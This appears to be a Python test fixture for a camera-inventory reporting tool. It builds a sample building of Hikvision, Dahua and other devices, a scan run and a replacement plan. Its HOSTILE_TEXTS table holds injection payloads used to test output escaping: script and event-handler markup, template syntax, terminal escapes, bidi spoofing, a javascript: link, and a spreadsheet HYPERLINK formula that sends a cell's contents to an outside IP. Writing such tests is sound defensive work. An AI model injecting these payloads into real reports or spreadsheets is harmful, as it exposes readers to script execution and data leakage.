"""A census to print: a small building with a bit of everything, and the texts of a hostile device."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import msgspec

from reports.content import BillLine, Census, Forecast, Item, Plan, Point, Quarter, in_order
from scanner.blind_spots import Told, find
from scanner.inventory.records import Device, Run
from scanner.model import Claim, Coverage, Exclusion

NOON = datetime(2026, 3, 14, 12, 0, tzinfo=UTC)

HOSTILE_TEXTS = {
    "markup": '"><img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>',
    "attribute": "' onmouseover='document.title=\"owned\"' x='",
    "end of script": "</script></style></template><script>document.title='owned'</script>",
    "template": "{{ 7 * 7 }}{% for x in y %}",
    "formula": '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
    "escape": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "bidi": "safe\u202etxt.exe\u2066",
    "link": "javascript:document.title='owned'",
    "long": "A" * 10_000,
    "console markup": "[bold red]owned[/] [link=http://203.0.113.9]x[/link]",
    "line breaks": "one\r\ntwo\u2028three\x00four",
}

RUN = Run(
    id="20260314-1131-k3fd",
    targets=("10.20.0.0/22",),
    command="camcensus scan 10.20.0.0/22 --exclude-file exclusions.txt",
    operator="R. Vance",
    authorisation="change CHG-20418",
    started=NOON - timedelta(minutes=29),
    ended=NOON - timedelta(minutes=27),
    outcome="complete",
    coverage=Coverage(
        targets=("10.20.0.0/22",),
        interfaces=("eth0",),
        ports=(80, 443, 554, 8000, 37777),
        protocols=("sadp", "dhdiscover", "ws-discovery", "ssdp", "http", "rtsp"),
        addresses=1006,
        answered=61,
        outcomes={"answered": 204, "refused": 310, "silent": 4516},
        sent={"datagram": 48, "connect": 5030, "request": 204},
        excluded=(Exclusion("10.20.3.0/28", "infusion pumps, never scanned", "2026-12-31"),),
        unusable={"sadp": "UDP port 37020 is taken by another program (SADPTool)"},
    ),
)


def claim(fingerprint: str, attribute: str, value: str, strength: Any, protocol: Any, excerpt: str) -> Claim:
    return Claim(fingerprint, attribute, value, strength, protocol, excerpt)


def device(number: int, **known: Any) -> Device:
    defaults: dict[str, Any] = {
        "id": f"d{number:04}",
        "address": f"10.20.{number // 250}.{number % 250 + 1}",
        "mac": f"02:00:5e:10:{number // 256 % 256:02x}:{number % 256:02x}",
        "first_seen": NOON - timedelta(days=40),
        "last_seen": NOON - timedelta(minutes=28),
        "last_run": RUN.id,
        "reachable": "on-link",
    }
    return Device(**(defaults | known))


def hikvision(number: int, **known: Any) -> Device:
    serial = f"DS-2CD2143G2-I20230{number % 9 + 1}14AAWRK{71000000 + number}"
    defaults: dict[str, Any] = {
        "maker": "hikvision",
        "maker_name": "Hikvision",
        "brand": "Hikvision",
        "relabelled": False,
        "category": "camera",
        "model": "DS-2CD2143G2-I",
        "firmware": "V5.7.11 build 230414",
        "serial": serial,
        "confidence": "confirmed",
        "covered": ("ndaa-889",),
        "evidence": (
            claim("hikvision-sadp", "maker", "hikvision", "decisive", "sadp", "<Types>inquiry</Types>"),
            claim("hikvision-sadp-serial", "serial", serial, "decisive", "sadp", serial),
            claim(
                "hikvision-isapi-realm", "maker", "hikvision", "strong", "isapi", 'Digest realm="IP Camera"'
            ),
            claim("mac-block", "maker", "hikvision", "weak", "mac", "02:00:5e"),
        ),
    }
    return device(number, **(defaults | known))


def dahua(number: int, **known: Any) -> Device:
    serial = f"9L0{number:04}PAG3C{number:03}"
    defaults: dict[str, Any] = {
        "maker": "dahua",
        "maker_name": "Dahua",
        "brand": "Dahua",
        "relabelled": False,
        "category": "camera",
        "model": "IPC-HDW2831T-AS-S2",
        "firmware": "2.820.0000000.18.R",
        "serial": serial,
        "confidence": "confirmed",
        "covered": ("ndaa-889",),
        "evidence": (
            claim("dahua-dhdiscover", "maker", "dahua", "decisive", "dhdiscover", '"Vendor":"Private"'),
            claim("dahua-rtsp-realm", "serial", serial, "strong", "rtsp", f"Login to {serial}"),
        ),
    }
    return device(number, **(defaults | known))


def other(number: int, name: str, model: str, **known: Any) -> Device:
    defaults: dict[str, Any] = {
        "maker": "other",
        "maker_name": name,
        "brand": name,
        "relabelled": False,
        "category": "camera",
        "model": model,
        "confidence": "confirmed",
        "evidence": (claim(f"{name.lower()}-http", "maker", "other", "strong", "http", f"Server: {name}"),),
    }
    return device(number, **(defaults | known))


def building() -> tuple[Device, ...]:
    """Two dozen devices: both makers, relabels of both, a lead, a conflict, other makers and unknowns."""
    lts: dict[str, Any] = {"brand": "LTS", "relabelled": True, "model": "LTN8916-P16", "category": "nvr"}
    amcrest: dict[str, Any] = {"brand": "Amcrest", "relabelled": True, "model": "IP8M-2496E"}
    neutral: dict[str, Any] = {"brand": None, "relabelled": None, "model": "IPC", "confidence": "probable"}
    return in_order(
        (
            *(hikvision(number) for number in range(14, 21)),
            hikvision(30, **lts, address="10.20.1.4"),
            hikvision(31, **lts, confidence="probable", address="10.20.1.5"),
            hikvision(32, brand="Annke", relabelled=True, model="C800", confidence="probable"),
            hikvision(33, address="192.168.1.64", reachable="not-routable", firmware=None, mac=None),
            hikvision(
                34, brand=None, relabelled=None, model=None, serial=None, firmware=None, confidence="possible"
            ),
            *(dahua(number) for number in range(40, 45)),
            dahua(50, **amcrest, address="10.20.2.10"),
            dahua(51, **amcrest, address="10.20.2.11"),
            dahua(52, **neutral, address="10.20.2.12"),
            dahua(
                53,
                confidence="probable",
                conflicts=("http says Uniview, rtsp says Dahua",),
                address="10.20.2.13",
            ),
            other(60, "Axis", "P3245-V"),
            other(61, "Axis", "P3245-V"),
            other(62, "Hanwha", "XNV-8080R"),
            other(63, "Synology", "DS920+", category="other"),
            device(70, model="HP LaserJet M404", category="other"),
            device(71),
        )
    )


def census(devices: tuple[Device, ...] | None = None, **changes: Any) -> Census:
    defaults: dict[str, Any] = {
        "title": "Harbour House, floors 0 to 3",
        "made_at": NOON,
        "runs": (RUN,),
        "devices": building() if devices is None else devices,
    } | changes
    defaults.setdefault(
        "unseen", find(Told(runs=defaults["runs"], devices=defaults["devices"]), defaults["made_at"])
    )
    return Census(**defaults)


def hostile() -> Census:
    """A census in which every text that a device can state is hostile, one device for each text."""
    return census(
        tuple(
            hikvision(
                number,
                brand=text,
                model=text,
                firmware=text,
                serial=text,
                maker_name=text,
                conflicts=(text,),
                evidence=(claim("lab", "model", text, "strong", "http", text),),
            )
            for number, text in enumerate(HOSTILE_TEXTS.values())
        )
    )


def large(number: int) -> Census:
    """A census of many devices, mixed as the building is."""
    mixed = building()
    return census(
        tuple(
            msgspec.structs.replace(
                mixed[n % len(mixed)],
                id=f"d{n:06}",
                address=f"10.{20 + n // 62_500}.{n // 250 % 250}.{n % 250 + 1}",
            )
            for n in range(number)
        )
    )


def plan(devices: Sequence[Device] | None = None) -> Plan:
    """A plan for what was found: one item each, two phases, and work that has begun."""
    found = [
        one for one in (building() if devices is None else devices) if one.maker in ("hikvision", "dahua")
    ]
    states = ("verified", "removed", "installed", "ordered", "planned", "planned", "confirmed", "kept")
    items = tuple(
        Item(
            device=one.id,
            state=states[number % len(states)],
            address=one.address,
            site=one.site,
            model=one.model,
            category=one.category,
            priority=90 - number,
            reasons=("exposed flaw, CISA KEV", "site of high sensitivity"),
            phase=f"phase {1 + number % 2}",
            replacement="dome, 4 MP, 2.8 mm, infrared 30 m, outdoor, PoE class 3",
            asked=("audio",) if number % 3 == 0 else (),
            due=NOON.date() + timedelta(days=30 * (number % 9)),
            cost=Decimal("412.50"),
            owner="A. Sørensen",
            contractor="Müller & Söhne",
            ticket=f"CHG-{20500 + number}",
        )
        for number, one in enumerate(found)
    )
    bill = (
        BillLine(
            site=None, phase="phase 1", kind="camera", replacement="dome, 4 MP, outdoor", quantity=10,
            unit_price=Decimal("289.00"), labour=Decimal("1080.00"), total=Decimal("3970.00"), currency="EUR",
        ),
        BillLine(
            site=None, phase="phase 2", kind="camera", replacement="bullet, 8 MP", quantity=9,
            unit_price=Decimal("349.90"), labour=Decimal("960.00"), total=Decimal("4109.10"), currency="EUR",
        ),
        BillLine(site=None, phase="phase 2", kind="nvr", replacement="16 channels, 16 PoE ports", quantity=2),
    )  # fmt: skip
    start = NOON.date() - timedelta(days=84)
    return Plan(
        items=items,
        bill=bill,
        open=sum(one.state not in ("removed", "verified", "kept") for one in items),
        totals={"EUR": Decimal("8079.10")},
        units=21,
        no_price=2,
        budget=(
            Quarter(quarter="2026-Q2", units=10, amounts={"EUR": Decimal("3970.00")}),
            Quarter(quarter="2026-Q3", units=11, amounts={"EUR": Decimal("4109.10")}),
        ),
        burn_down=tuple(
            Point(start + timedelta(days=7 * week), len(items) - week * 2 // 3) for week in range(13)
        ),
        forecast=Forecast(
            likely=NOON.date() + timedelta(days=150),
            early=NOON.date() + timedelta(days=110),
            late=NOON.date() + timedelta(days=230),
        ),
    )
